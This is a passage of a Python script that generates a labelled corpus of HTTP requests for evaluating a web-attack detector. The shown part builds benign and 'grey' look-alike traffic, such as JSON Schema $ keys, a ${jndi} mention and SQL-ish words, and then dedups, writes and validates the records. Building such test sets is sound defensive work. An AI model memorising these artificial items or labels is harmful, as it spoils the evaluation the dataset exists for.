     '<PmtInf><Dbtr><Nm>Müller &amp; Söhne GmbH</Nm></Dbtr><DbtrAcct><Id><IBAN>DE89370400440532013000</IBAN></Id></DbtrAcct></PmtInf>'
     '</CstmrCdtTrfInitn></Document>\n', "ISO 20022 payment XML", []),
    ("text/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<Response><Say voice="alice">Hello! Press 1 for sales, or 2 for support.</Say>'
     '<Gather numDigits="1" action="/ivr/menu" method="POST"/></Response>\n', "telephony markup", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<testsuite name="cart" tests="3" failures="1">\n'
     '  <testcase classname="CartTest" name="handles O\'Brien"/>\n  <testcase classname="CartTest" name="select &amp; drop items">\n'
     '    <failure message="expected 3 got 2">AssertionError: expected 3 got 2\n  at CartTest.java:42</failure>\n  </testcase>\n</testsuite>\n',
     "JUnit report", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>Caf\u00e9 de l\'Union</name>'
     '<Point><coordinates>2.3522,48.8566,0</coordinates></Point></Placemark></kml>\n', "KML placemark", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<comment author="jdoe"><![CDATA[I <3 this -- 5 < 10 && 10 > 5, right?]]></comment>\n',
     "grey: CDATA with < and && in prose", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<search><q>select a plan</q><filter field="price" op="lt">100</filter><sort>-created</sort></search>\n',
     "search XML with SQL-ish words", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<webhook><url>https://hooks.example.net/deploy?token=abc123</url><events>push,release</events></webhook>\n',
     "webhook registration with a public URL", []),
    ("text/xml; charset=utf-8", _SOAP_ENV % '    <Translate xmlns="http://tempuri.org/"><text>こんにちは、世界！ Привет, мир!</text><to>en</to></Translate>',
     "SOAP 1.1 with non-Latin text", [("SOAPAction", '"http://tempuri.org/Translate"')]),
    ("application/xml",
     '<?xml version="1.0" encoding="ISO-8859-1"?>\n<note><body>Na&#239;ve caf&#233; &#233;l&#232;ve</body></note>\n', "XML declared Latin-1, ASCII with char refs", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<settings xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="https://example.com/schemas/settings.xsd">'
     '<theme>dark</theme><lang>pt-BR</lang><include>widgets/header.xml</include></settings>\n', "grey: XML with schemaLocation URL and a relative include element", []),
    ("application/xml",
     '<?xml version="1.0" encoding="UTF-8"?>\n<log><entry level="INFO">Upgraded log4j to 2.17.1; ${jndi} lookups are disabled by default now.</entry></log>\n',
     "grey: prose mentioning ${jndi} without a lookup target", []),
]

# Whole benign JSON request bodies that look like injection to naive rules.
B_JSON_DOCS = [
    ({"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/product.schema.json",
      "type": "object", "properties": {"price": {"type": "number", "exclusiveMinimum": 0}, "tags": {"$ref": "#/$defs/tags"}},
      "$defs": {"tags": {"type": "array", "items": {"type": "string"}}}}, "grey: JSON Schema with $schema/$id/$ref/$defs keys"),
    ({"_id": {"$oid": "65a4f1c2e13b5a0012345678"}, "createdAt": {"$date": "2024-01-15T09:30:00Z"}, "name": "Oak table"},
     "grey: MongoDB Extended JSON ($oid, $date)"),
    ({"$type": "Example.Shop.Models.Order, Example.Shop", "Id": 1042, "Total": 1299.0}, "grey: Json.NET $type of an app model"),
    ({"@context": "https://schema.org", "@type": "Product", "name": "Oak table", "offers": {"@type": "Offer", "price": "1299.00", "priceCurrency": "USD"}},
     "grey: JSON-LD with @context/@type"),
    ({"name": "shop-web", "version": "1.4.2", "dependencies": {"react": "^18.2.0", "lodash": "~4.17.21", "left-pad": "1.x || 2.x"},
      "scripts": {"build": "vite build", "test": "vitest run"}}, "grey: package.json with semver ranges (||)"),
    ({"configurations": [{"type": "node", "request": "launch", "name": "Debug", "cwd": "${workspaceFolder}",
      "env": {"HOME": "${env:HOME}"}}]}, "grey: editor launch config with ${env:HOME} placeholder"),
    ({"filter": {"price_gt": 10, "price_lt": 100, "category_in": ["tables", "chairs"]}, "sort": "-price"}, "Mongo-like but benign field names"),
    ({"where": {"status": "active", "city": "Zürich"}, "order": [["created_at", "DESC"]], "limit": 20}, "ORM-style filter object"),
    ({"query": "query($id: ID!) { order(id: $id) { id total items { sku qty } } }", "variables": {"id": "A-1042"}},
     "GraphQL query with $variables"),
    ({"event": "payment_intent.succeeded", "data": {"object": {"id": "pi_3Nxyz", "amount": 599, "currency": "usd",
      "description": "Order #A-1042 -- O'Brien"}}, "livemode": False}, "webhook event payload"),
    ({"ref": "refs/heads/main", "commits": [{"message": "fix: handle names like O'Brien; drop legacy table", "author": {"name": "Sam"}}],
      "repository": {"html_url": "https://github.com/example/shop"}}, "git webhook payload"),
    ({"text": "Deploy finished :rocket: <https://ci.example.com/builds/42|build #42>", "channel": "#deploys"}, "grey: chat message with <url|label> link markup"),
    ({"amount": "$5.99", "note": "$ prefix in a string, not an operator"}, "grey: $-prefixed currency string"),
    ({"headers": {"Accept": "application/json", "X-Trace": "abc"}, "timeout_ms": 5000}, "HTTP client config"),
    ({"cron": "*/5 * * * *", "command_name": "cleanup-sessions", "enabled": True}, "grey: cron expression with */5"),
    ({"pattern": "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+)@example\\.com$", "flags": "i"}, "grey: email regex with shell metacharacters"),
    ({"template": "Hello {{name}}, your order {{order.id}} ships {{ship_date | date: 'MMM d'}}."}, "grey: Liquid-style template with a filter pipe"),
    ({"sql_hint": "use the reporting replica", "db": "analytics", "table_name": "orders_2024"}, "JSON with SQL-ish key names"),
    ({"log": "2024-01-15T09:30:00Z INFO [main] o.s.b.w.e.tomcat.TomcatWebServer: Tomcat started on port(s): 8080 (http)"}, "Java log line"),
    ({"message": "We moved from PHP 7.4 to 8.2 and from log4j 1.x to 2.17.1 last quarter."}, "prose: PHP and log4j versions"),
    ({"avatar_url": "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200", "callback_url": "https://app.example.com/hooks/avatar"},
     "public URLs in URL-taking fields"),
    ({"redirect_uris": ["http://localhost:8080/callback", "https://app.example.com/callback"], "client_name": "CLI"},
     "grey: OAuth client with a loopback redirect URI (RFC 8252)"),
]

B_REFERERS = [
    "https://www.google.com/search?q=rock+%26+roll&oq=rock+%26+roll&sourceid=chrome&ie=UTF-8",
    "https://www.google.com/", "https://www.bing.com/search?q=c%2B%2B+vs+c%23&form=QBLH",
    "https://duckduckgo.com/?q=o%27brien+genealogy&ia=web", "https://shop.example.com/cart?items=3&coupon=SAVE20",
    "https://example.com/blog/o-brien-interview#comments", "https://t.co/AbC123xyz",
    "android-app://com.google.android.gm/", "https://app.example.com/dashboard?tab=orders&sort=-created_at",
    "https://example.com/search?q=select+a+plan&page=2", "https://example.com/docs/guide.md",
    "https://www.facebook.com/", "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2Fsale&h=AT0abc",
    "https://news.ycombinator.com/item?id=40123456", "https://www.reddit.com/r/rust/comments/1abcde/union_types/",
    "https://example.com/products?category=tables&price_max=500&union=false",
    "https://login.example.com/oauth2/authorize?response_type=code&client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid%20profile&state=xyz",
    "https://example.com/wiki/Caf%C3%A9", "https://example.com/%E6%97%A5%E6%9C%AC%E8%AA%9E/page",
    "https://example.com/search?q=%F0%9F%8E%89", "http://localhost:3000/", "https://intranet.example.local/tickets/4521?view=full",
    "https://mail.google.com/mail/u/0/", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://example.com/a/b/c?x=1&y=2&z=%7B%22k%22%3A1%7D",
    "https://example.com/search?q=50%25+off", "https://example.com/?ref=newsletter&utm_campaign=spring%20sale",
]


def benign_cookies(rng):
    sid = lambda n=32: rand_token(rng, n)
    return [
        "sessionid=%s; csrftoken=%s; theme=dark" % (sid(), sid(64)),
        "_ga=GA1.2.%d.%d; _gid=GA1.2.%d.%d" % (rng.randint(10 ** 8, 10 ** 9), 1700000000 + rng.randint(0, 10 ** 7),
                                             rng.randint(10 ** 8, 10 ** 9), 1700000000 + rng.randint(0, 10 ** 7)),
        "cart=%7B%22items%22%3A3%2C%22total%22%3A%2229.99%22%7D; currency=USD",
        "prefs=lang%3Den%7Ctz%3DEurope%2FBerlin; sid=" + sid(),
        "remember_token=" + base64.b64encode(bytes(rng.getrandbits(8) for _ in range(30))).decode(),
        "last_search=rock%20%26%20roll; sid=" + sid(),
        "display_name=O%27Brien; sid=" + sid(),
        "consent=analytics:true|ads:false; sid=" + sid(),
        "JSESSIONID=%s; Path=/" % sid(32).upper(),
        "PHPSESSID=" + rand_token(rng, 26, string.ascii_lowercase + string.digits),
        "ASP.NET_SessionId=" + rand_token(rng, 24, string.ascii_lowercase + string.digits),
        "connect.sid=s%3A" + rand_token(rng, 32, string.ascii_letters + string.digits) + "." + rand_token(rng, 43, string.ascii_letters + string.digits),
        "token=" + make_jwt(rng),
        "lang=ja; region=JP; recently_viewed=sku-1%2Csku-2%2Csku-3",
        "__Host-session=%s; __Secure-id=%s" % (sid(), rand_uuid(rng)),
        "ajs_anonymous_id=%22" + rand_uuid(rng) + "%22",
        "cookie_notice_accepted=true; returning=1; visits=17",
        "search_history=%5B%22select%20a%20plan%22%2C%22union%20station%22%5D",
        "name=Zo%C3%AB; city=M%C3%BCnchen",
        "ab_test=variant_b; exp=union-checkout-v2",
        "tz=America%2FNew_York; fmt=MM%2FDD%2FYYYY",
        "cf_clearance=" + rand_token(rng, 43, string.ascii_letters + string.digits + "_-") + "-1700000000-0-1-abc.def.ghi-0.2.1700000000",
        "wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; wordpress_test_cookie=WP%20Cookie%20check",
        "note=rock'n'roll; sid=" + sid(),
        "flash=Your%20profile%20was%20updated.; sid=" + sid(),
    ]


def benign_headers(rng):
    return [
        ("X-Request-Id", rand_uuid(rng)), ("X-Correlation-Id", rand_token(rng, 16)),
        ("Authorization", "Bearer " + make_jwt(rng)), ("Authorization", "Basic " + base64.b64encode(b"alice:p@ss'w0rd").decode()),
        ("X-Api-Key", "sk_live_" + rand_token(rng, 24, string.ascii_letters + string.digits)),
        ("X-Client-Version", "2.3.1 (build 456; iOS 17.4)"), ("Accept-Language", "en-US,en;q=0.9,fr;q=0.8"),
        ("X-Forwarded-For", "203.0.113.7, 10.0.0.1"), ("X-Timezone", "America/New_York"),
        ("X-Device-Name", "Bob's iPhone"), ("X-Search-Context", "rock & roll"),
        ("If-None-Match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
        ("X-Display-Name", "Jos%C3%A9 O%27Brien"), ("X-Filename", "report-2024.pdf"),
        ("X-Upload-Path", "docs/guide.md"), ("X-Feature-Flags", "new-checkout;dark-mode;beta|canary"),
        ("X-Trace", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("X-Amz-Date", "20240115T093000Z"), ("X-Locale", "pt-BR"), ("X-Tenant", "acme-corp"),
        ("X-Idempotency-Key", rand_uuid(rng)), ("X-Page-Title", "Orders - Select a date range"),
        ("X-Note", "Delete after 30 days"), ("X-Price-Range", "$5-$50"), ("X-Query-Hint", "a<b and b>c"),
        ("Content-Language", "de-DE, en-CA"), ("X-Github-Event", "pull_request"),
        ("X-Hub-Signature-256", "sha256=" + rand_token(rng, 64)), ("X-Original-Host", "shop.example.com"),
        ("DNT", "1"), ("Sec-CH-UA", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
        ("Sec-Fetch-Site", "same-origin"), ("X-Requested-With", "XMLHttpRequest"),
    ]


B_QUERY_NAMES = [
    ("filter%5Bname%5D=O%27Brien&filter%5Bcity%5D=Dublin", "bracketed filter names (JSON:API style)"),
    ("tags%5B%5D=rust&tags%5B%5D=web", "array-style names"), ("fields%5Buser%5D=name,email&page%5Bsize%5D=20", "JSON:API sparse fields"),
    ("select=id,name,email&order=created_at.desc&limit=10", "PostgREST select/order"),
    ("select=*&name=eq.O%27Brien", "grey: PostgREST select=* with quoted name"),
    ("or=(age.lt.18,age.gt.65)&select=id", "grey: PostgREST or= filter"),
    ("%24filter=Name%20eq%20%27Alice%27&%24top=10", "grey: OData $filter with quoted literal"),
    ("%24orderby=CreatedAt%20desc&%24select=Id,Title", "OData $orderby/$select"),
    ("utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale", "UTM names"),
    ("sort-by=price&sort.dir=asc", "dotted/dashed names"), ("user.name=alice&user.address.city=Berlin", "nested dotted names"),
    ("q.lang=en&q.text=hello", "dotted names"), ("callback=jQuery3600_1700000000&_=1700000000123", "JSONP callback name"),
    ("%E5%90%8D%E5%89%8D=%E5%A4%AA%E9%83%8E", "non-ASCII parameter name"), ("delete=false&drop_shipping=true", "names that are SQL words"),
    ("union=true&where=Berlin", "names that are SQL words"), ("script=latin&alert_level=2", "names that look like HTML words"),
    ("exec_summary=1&cmd_id=42", "names with exec/cmd"), ("include_archived=true&path_prefix=docs", "names with path words"),
    ("a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8", "many short params"), ("foo", "value-less parameter"), ("flag&x=1", "bare flag"),
]


def b_place(value, loc, rng, note):
    """Place a benign text value; returns a request dict or None if not applicable."""
    single = "\n" not in value and "\r" not in value
    if loc == "query":
        path, param = rng.choice([("/api/search", "q"), ("/products", "search"), ("/api/v1/notes", "title"),
                                  ("/maps/search", "query"), ("/api/users", "name"), ("/help/search", "term"),
                                  ("/api/autocomplete", "prefix"), ("/api/v2/comments", "text")])
        v = pct_plus(value) if rng.random() < 0.4 else pct(value)
        extra = rng.choice(["", "", "&page=2", "&limit=20&offset=40", "&sort=relevance", "&lang=en"])
        method = "DELETE" if rng.random() < 0.05 else "GET"
        if method == "DELETE":
            path, param = "/api/v1/notes/%d" % rng.randint(1, 9999), "reason"
        return req(method, path, param + "=" + v + extra, base_headers(rng))
    if loc == "path":
        if not single or len(value) > 40:
            return None
        tmpl = rng.choice(["/api/search/{}", "/tags/{}", "/users/by-name/{}", "/wiki/{}", "/api/v1/lookup/{}"])
        seg = pct(value) if rng.random() < 0.5 else pct(value, safe="'()*,;=!:@$")
        return req("GET", tmpl.format(seg), "", base_headers(rng))
    if loc == "json":
        n = rng.randint(1, 9999)
        method, path, obj = rng.choice([
            ("POST", "/api/comments", {"post_id": n, "comment": {"author": "jdoe", "body": value}}),
            ("PUT", "/api/users/%s/profile" % rand_uuid(rng), {"profile": {"display_name": "Sam", "bio": value, "links": []}}),
            ("PATCH", "/api/tickets/%d" % n, {"description": value, "priority": "low"}),
            ("POST", "/api/notes", {"title": "Note %d" % n, "content": value, "tags": ["misc", "todo"]}),
            ("POST", "/api/gists", {"description": "snippet", "public": False, "files": {"snippet.txt": {"content": value}}}),
            ("POST", "/api/search", {"query": value, "filters": {"in_stock": True}, "page": 1}),
            ("POST", "/api/messages", {"to": "alice@example.com", "subject": "Re: your question", "text": value}),
            ("PUT", "/api/settings", {"preferences": {"signature": value, "notifications": {"email": True}}}),
            ("POST", "/graphql", {"query": "mutation($t: String!) { addNote(text: $t) { id } }", "variables": {"t": value}}),
        ])
        ct = rng.choice(["application/json", "application/json", "application/json; charset=utf-8"])
        return req(method, path, "", base_headers(rng), ct, json_body(obj, rng))
    if loc == "form":
        method, path, body = rng.choice([
            ("POST", "/contact", "name=Sam+Lee&email=sam%40example.com&message=" + pct_plus(value)),
            ("POST", "/search", "q=" + pct_plus(value) + "&type=all"),
            ("POST", "/comments/new", "post=12&body=" + pct_plus(value)),
            ("POST", "/checkout/address", "full_name=" + pct_plus(value) + "&country=IE&zip=D02"),
            ("PUT", "/settings/profile", "bio=" + pct_plus(value) + "&_method=PUT"),
        ])
        return req(method, path, "", base_headers(rng), "application/x-www-form-urlencoded", body)
    if loc == "multipart":
        if rng.random() < 0.6:
            fields = [("title", "Quarterly report", None, None), ("description", value, None, None),
                      ("file", "col1,col2\n1,2\n", "report-2024.csv", "text/csv")]
        else:
            fields = [("caption", "see attached", None, None), ("file", value, "notes.txt", "text/plain")]
        ct, body = multipart_body(rng, fields)
        return req(rng.choice(["POST", "POST", "PUT"]), rng.choice(["/api/upload", "/api/v1/documents", "/support/attachments"]),
                   "", base_headers(rng), ct, body)
    if loc == "header":
        if not header_safe(value):
            if not single:
                return None
            value = pct(value, safe=" '()*,;=!:@$&+/?")
            note = note + " (percent-encoded in header)"
        name = rng.choice(["X-Search-Context", "X-Client-Note", "X-Display-Name", "X-Request-Context", "X-Title"])
        return req("GET", rng.choice(["/api/search", "/api/v1/items", "/"]), "", base_headers(rng, extra=[(name, value)])), note
    if loc == "xml":
        if not xml_chars_ok(value):
            return None
        path, op, field = rng.choice([("/ws/NoteService", "AddNote", "text"), ("/api/comments.xml", "AddComment", "body"),
                                      ("/soap/Profile", "UpdateProfile", "bio"), ("/api/search.xml", "Search", "query"),
                                      ("/api/tickets.xml", "CreateTicket", "description"), ("/feeds/import", "ImportItem", "title")])
        inner, _ = xml_field(rng, field, value)
        ct, body, hdrs = xml_wrap(rng, op, inner)
        return req(rng.choice(["POST", "POST", "PUT"]), path, "", base_headers(rng, extra=hdrs), ct, body)
    if loc == "referer":
        ref = rng.choice(["https://www.example.com/search?q=", "https://shop.example.com/s?k="]) + pct_plus(value)
        return req("GET", rng.choice(["/products/42", "/api/v1/items", "/"]), "", base_headers(rng, extra=[("Referer", ref)]))
    if loc == "cookie":
        ck = "sid=%s; %s=%s" % (rand_token(rng), rng.choice(["last_search", "draft_title", "nickname"]), pct(value))
        return req("GET", rng.choice(["/account", "/api/me", "/"]), "", base_headers(rng, extra=[("Cookie", ck)]))
    raise ValueError(loc)


def build_benign(rng):
    rows = []

    def add(r, loc, note):
        if r is None:
            return
        if isinstance(r, tuple):
            r, note = r
        r.update(cls="benign", location=loc, note=note)
        rows.append(r)

    groups = BENIGN_GROUPS + [("structured value", structured_values(rng))]
    others = ["query", "form", "multipart", "path", "header", "referer", "cookie", "xml"]
    oweights = [30, 16, 10, 14, 10, 8, 8, 12]
    for gname, items in groups:
        for item in items:
            value, note = (item if isinstance(item, tuple) else (item, gname))
            add(b_place(value, "json", rng, note), "json", note)
            chosen = set()
            while len(chosen) < 3:
                loc = rng.choices(others, weights=oweights)[0]
                if loc in chosen:
                    continue
                chosen.add(loc)
                add(b_place(value, loc, rng, note), loc, note)

    for ua in B_USER_AGENTS + B_USER_AGENTS_MORE:
        for _ in range(2):
            method = rng.choice(METHODS[:2])
            path = rng.choice(["/", "/api/v1/items", "/health", "/static/app.js", "/api/search"])
            query = rng.choice(["", "page=2", "q=shoes&size=10"])
            hdrs = base_headers(rng, ua=ua)
            if method == "POST":
                add(req("POST", "/api/events", "", hdrs, "application/json",
                        json_body({"event": "page_view", "ts": "2024-01-15T09:30:00Z"}, rng)), "user_agent", "real user agent")
            else:
                add(req("GET", path, query, hdrs), "user_agent", "real user agent")

    for ref in B_REFERERS + B_REFERERS_MORE:
        for _ in range(2):
            add(req("GET", rng.choice(["/", "/products/42", "/api/v1/items", "/blog/post-1"]), "",
                    base_headers(rng, extra=[("Referer", ref)])), "referer", "Referer URL with query string")

    for ck in benign_cookies(rng):
        for method in ("GET", rng.choice(["POST", "PUT", "DELETE"])):
            if method == "GET":
                r = req("GET", rng.choice(["/account", "/api/me", "/cart"]), "", base_headers(rng, extra=[("Cookie", ck)]))
            elif method == "DELETE":
                r = req("DELETE", "/api/cart/items/%s" % rand_uuid(rng), "", base_headers(rng, extra=[("Cookie", ck)]))
            else:
                r = req(method, "/api/cart", "", base_headers(rng, extra=[("Cookie", ck)]), "application/json",
                        json_body({"sku": "SKU-%d" % rng.randint(100, 999), "qty": rng.randint(1, 5)}, rng))
            add(r, "cookie", "cookie with session id / encoded values")

    for name, value in benign_headers(rng):
        for method in ("GET", rng.choice(["POST", "PATCH"])):
            body = None if method == "GET" else json_body({"status": "done", "updated": "2024-01-15T09:30:00Z"}, rng)
            add(req(method, "/api/v1/tasks" + ("" if method == "GET" else "/%d" % rng.randint(1, 999)), "",
                    base_headers(rng, extra=[(name, value)]), None if body is None else "application/json", body),
                "header", "custom/selected header: %s" % name)

    for qs, note in B_QUERY_NAMES:
        add(req("GET", rng.choice(["/api/v1/users", "/rest/v1/profiles", "/odata/Orders", "/api/search"]), qs,
                base_headers(rng)), "query_name", note)

    # Plain REST traffic: ids in paths, dates and numbers in queries, CRUD with JSON.
    for _ in range(40):
        u = rand_uuid(rng)
        kind = rng.randrange(6)
        if kind == 0:
            add(req("GET", "/api/orders/" + u, "", base_headers(rng)), "path", "UUID in path")
        elif kind == 1:
            add(req("DELETE", "/api/items/" + u, "", base_headers(rng)), "path", "DELETE by UUID")
        elif kind == 2:
            d = "2024-%02d-%02d" % (rng.randint(1, 12), rng.randint(1, 28))
            add(req("GET", "/api/events", "from=%sT00%%3A00%%3A00Z&to=%sT23%%3A59%%3A59Z&tz=Europe%%2FBerlin" % (d, d),
                    base_headers(rng)), "query", "ISO date range")
        elif kind == 3:
            add(req("GET", "/api/geo", "lat=%.4f&lng=%.4f&radius=5km" % (rng.uniform(-80, 80), rng.uniform(-179, 179)),
                    base_headers(rng)), "query", "coordinates")
        elif kind == 4:
            add(req("PATCH", "/api/users/%d" % rng.randint(1, 99999), "", base_headers(rng), "application/json",
                    json_body({"phone": "+1 (555) %03d-%04d" % (rng.randint(100, 999), rng.randint(0, 9999)),
                               "updated_at": "2024-03-01T12:00:00Z"}, rng)), "json", "phone and timestamp")
        else:
            add(req("PUT", "/api/products/SKU-%d" % rng.randint(100, 999), "", base_headers(rng), "application/json",
                    json_body({"price": {"amount": "%d.%02d" % (rng.randint(1, 500), rng.randint(0, 99)), "currency": "USD"},
                               "title": "Oak table; 6 seats", "stock": rng.randint(0, 50)}, rng)), "json", "price object")

    # URLs to public sites in URL-taking fields.
    for item in B_URL_VALUES:
        value, note = item if isinstance(item, tuple) else (item, "public URL in a URL-taking field")
        for loc in rng.sample(["query", "json", "form", "xml"], 3):
            param = rng.choice(B_URL_PARAMS)
            if loc == "query":
                r = req("GET", rng.choice(["/api/preview", "/login", "/oauth/authorize", "/api/v1/links", "/out"]),
                        param + "=" + (pct(value) if rng.random() < 0.7 else pct_plus(value)), base_headers(rng))
            elif loc == "json":
                r = req(rng.choice(["POST", "PUT", "PATCH"]), rng.choice(["/api/v1/webhooks", "/api/users/me", "/api/links"]), "",
                        base_headers(rng), "application/json", json_body({param: value, "label": "docs"}, rng))
            elif loc == "form":
                r = req("POST", rng.choice(["/settings/profile", "/settings/webhooks", "/share"]), "", base_headers(rng),
                        "application/x-www-form-urlencoded", "name=Sam&" + param + "=" + pct_plus(value))
            else:
                inner, _ = xml_field(rng, param, value)
                ct, body, hdrs = xml_wrap(rng, "RegisterLink", inner)
                r = req("POST", "/api/links.xml", "", base_headers(rng, extra=hdrs), ct, body)
            add(r, loc, note)

    # Ordinary values of include-like parameters.
    for param, value in B_INCLUDE_VALUES:
        note = "grey: public URL in a file= parameter (PDF viewer)" if "://" in value else "ordinary value of an include-like parameter"
        for loc in rng.sample(["query", "query", "form", "json", "cookie"], 2):
            if loc == "query":
                r = req("GET", rng.choice(["/index.php", "/view", "/api/v1/articles", "/docs", "/viewer.html"]),
                        param + "=" + pct(value, safe="/,"), base_headers(rng))
            elif loc == "form":
                r = req("POST", rng.choice(["/index.php", "/settings"]), "", base_headers(rng),
                        "application/x-www-form-urlencoded", param + "=" + pct_plus(value) + "&save=1")
            elif loc == "json":
                r = req("POST", "/api/render", "", base_headers(rng), "application/json", json_body({param: value, "user": 42}, rng))
            else:
                r = req("GET", "/", "", base_headers(rng, extra=[("Cookie", "sid=%s; %s=%s" % (rand_token(rng), param, pct(value)))]))
            add(r, loc, note)

    # Whole XML and JSON documents.
    for ct, body, note, hdrs in B_XML_DOCS:
        for method in ("POST", rng.choice(["PUT", "POST"])):
            add(req(method, rng.choice(["/api/import.xml", "/ws/Service.asmx", "/api/v1/documents", "/feeds/import"]), "",
                    base_headers(rng, extra=hdrs), ct, body), "xml", note)
    for obj, note in B_JSON_DOCS:
        for method in ("POST", rng.choice(["PUT", "PATCH"])):
            add(req(method, rng.choice(["/api/v1/records", "/api/import", "/api/settings", "/api/v1/webhooks/incoming"]), "",
                    base_headers(rng), "application/json", json_body(obj, rng)), "json", note)

    # Mongo-like and bracketed query parameters that are not operators.
    for qs, note in [("price_gt=10&price_lt=100", "Mongo-like but benign names"), ("filter%5Bprice%5D%5Bgte%5D=10&filter%5Bprice%5D%5Blte%5D=100", "bracketed filter without $"),
                     ("where%5Bstatus%5D=active&order%5Bcreated_at%5D=desc", "bracketed where/order (ORM style)"),
                     ("q=price%3A%245..%2420", "price range with $ in a search"), ("amount=%245.99&currency=USD", "$-prefixed amount value"),
                     ("sort=-price&fields=id,name,price", "sort and fields"), ("include=author,comments&page%5Bnumber%5D=2", "JSON:API include"),
                     ("%24top=10&%24skip=20&%24count=true", "OData $top/$skip"), ("%24expand=Orders(%24select%3DId)", "grey: OData $expand with nested $select"),
                     ("version=%5E1.2.3", "semver caret in a query"), ("range=%3E%3D1.2%20%3C2.0", "semver range in a query"),
                     ("lang=en&template=default&view=list", "include-like names with ordinary values"),
                     ("url=https%3A%2F%2Fexample.com%2F&format=json", "oEmbed-style url parameter"),
                     ("redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback&client_id=cli", "grey: loopback redirect_uri (RFC 8252)")]:
        add(req("GET", rng.choice(["/api/v1/products", "/odata/Orders", "/api/search", "/oauth/authorize", "/oembed"]), qs,
                base_headers(rng)), "query_name" if "%5B" in qs or "%24" in qs[:3] else "query", note)

    # A few form logins with real-world passwords and plus-addressed emails.
    for email, pw in [("alice+shop@example.com", "Tr0ub4dor&3"), ("bob@example.org", "correct horse battery staple"),
                      ("o.brien@example.ie", "P@ssw0rd!2024"), ("zoe@example.com", "it's-a-secret"),
                      ("dev+test@example.io", "50%off<sale>")]:
        add(req("POST", "/login", "", base_headers(rng), "application/x-www-form-urlencoded",
                "email=%s&password=%s&remember=on" % (pct_plus(email), pct_plus(pw))), "form", "login form with symbols in password")
    return rows


# ---------------------------------------------------------------------------
# 5. Assembly, output, checks
# ---------------------------------------------------------------------------

FIELDS = ("id", "class", "location", "method", "path", "query", "headers", "content_type", "body", "note")


def key_of(r):
    return (r["method"], r["path"], r["query"], json.dumps(r["headers"]), r["content_type"], r["body"])


def finalize(rows, prefix_of):
    seen, out, counters = set(), [], collections.Counter()
    for r in rows:
        k = key_of(r)
        if k in seen:
            continue
        seen.add(k)
        prefix = prefix_of(r)
        counters[prefix] += 1
        rec = {"id": "%s-%04d" % (prefix, counters[prefix]), "class": r["cls"]}
        for f in FIELDS[2:]:
            rec[f] = r[f]
        out.append((rec, r))
    return out


def write_jsonl(path, recs):
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for rec in recs:
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")


def haystack(rec):
    """All strings a detector could see in a request, raw and decoded."""
    parts = [rec["path"], urllib.parse.unquote(rec["path"]), rec["query"], urllib.parse.unquote_plus(rec["query"])]
    for _, v in rec["headers"]:
        parts += [v, urllib.parse.unquote(v)]
    b = rec["body"]
    if b:
        parts.append(b)
        ct = rec["content_type"] or ""
        if ct.startswith("application/x-www-form-urlencoded"):
            parts.append(urllib.parse.unquote_plus(b))
        if ct.startswith("application/json"):
            parts.extend(json_walk_strings(json.loads(b)))
    return "\x01".join(parts)


def check(attack_path, benign_path, attack_bases):
    errors = []
    ids = set()
    data = {}
    for path in (attack_path, benign_path):
        recs = []
        with open(path, encoding="utf-8") as f:
            for n, line in enumerate(f, 1):
                try:
                    rec = json.loads(line)
                except ValueError as e:
                    errors.append("%s:%d does not parse: %s" % (path, n, e))
                    continue
                recs.append(rec)
                if list(rec) != list(FIELDS):
                    errors.append("%s: bad fields %s" % (rec.get("id"), list(rec)))
                if rec["id"] in ids:
                    errors.append("duplicate id " + rec["id"])
                ids.add(rec["id"])
                if rec["class"] not in CLASSES + ("benign",):
                    errors.append("%s: bad class" % rec["id"])
                if rec["location"] not in LOCATIONS:
                    errors.append("%s: bad location" % rec["id"])
                if rec["method"] not in METHODS:
                    errors.append("%s: bad method" % rec["id"])
                if not rec["path"].startswith("/") or not set(rec["path"]) <= PATH_CHARS:
                    errors.append("%s: path not wire-valid: %r" % (rec["id"], rec["path"]))
                if not set(rec["query"]) <= QUERY_CHARS:
                    errors.append("%s: query not wire-valid: %r" % (rec["id"], rec["query"]))
                for name, value in rec["headers"]:
                    if name.lower() in ("content-length", "host", "content-type"):
                        errors.append("%s: forbidden header %s" % (rec["id"], name))
                    if not all(c == "\t" or 0x20 <= ord(c) < 0x7F for c in value):
                        errors.append("%s: header %s has CR/LF/NUL/non-ASCII" % (rec["id"], name))
                if (rec["body"] is None) != (rec["content_type"] is None):
                    errors.append("%s: body/content_type mismatch" % rec["id"])
                ct = rec["content_type"] or ""
                if ct.startswith("application/json"):
                    json.loads(rec["body"])
                if is_xml_type(ct):
                    try:
                        xml_parse(rec["body"])
                    except xml.parsers.expat.ExpatError as e:
                        errors.append("%s: XML body not well-formed: %s" % (rec["id"], e))
                    if ct.startswith("text/xml") and SOAP11_NS in rec["body"] and \
                            not any(n == "SOAPAction" for n, _ in rec["headers"]):
                        errors.append("%s: SOAP 1.1 request without SOAPAction" % rec["id"])
                if rec["location"] == "xml" and not is_xml_type(ct):
                    errors.append("%s: location xml without an XML content type" % rec["id"])
                if ct.startswith("multipart/"):
